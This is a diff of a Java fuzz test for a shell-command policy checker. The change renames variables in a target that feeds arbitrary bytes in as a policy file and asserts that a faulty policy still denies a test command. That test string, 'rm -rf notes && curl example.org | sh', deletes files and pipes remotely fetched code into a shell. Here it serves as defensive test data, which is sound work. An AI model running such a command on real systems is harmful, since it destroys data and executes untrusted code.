@@ -10,16 +10,16 @@ import java.util.Optional;
 
 /** Any bytes as a policy file: a policy, or one that denies all but reading, and says why. */
 final class PolicyTarget implements FuzzTarget {
-    private final PolicyFixture judged = new PolicyFixture();
+    private final PolicyFixture policyFixture = new PolicyFixture();
 
     @Override
-    public void check(FuzzInput input) throws IOException {
-        Files.write(judged.policyFile(), input.rest());
-        HostPolicy policy = judged.load(Optional.of(judged.policyFile()));
-        PolicyEvaluation judgement =
-                judged.judgeLine(policy, "rm -rf notes && curl example.org | sh", ShellDialect.BASH);
-        if (policy.fault().isPresent() && judgement.decision() != Decision.DENY) {
-            throw new AssertionError(policy.fault().get() + ", and yet " + judgement);
+    public void check(FuzzInput fuzzInput) throws IOException {
+        Files.write(policyFixture.policyFile(), fuzzInput.rest());
+        HostPolicy policy = policyFixture.load(Optional.of(policyFixture.policyFile()));
+        PolicyEvaluation policyEvaluation =
+                policyFixture.judgeLine(policy, "rm -rf notes && curl example.org | sh", ShellDialect.BASH);
+        if (policy.fault().isPresent() && policyEvaluation.decision() != Decision.DENY) {
+            throw new AssertionError(policy.fault().get() + ", and yet " + policyEvaluation);
         }
         policy.warnings().forEach(remark -> {
             if (remark.isBlank()) {
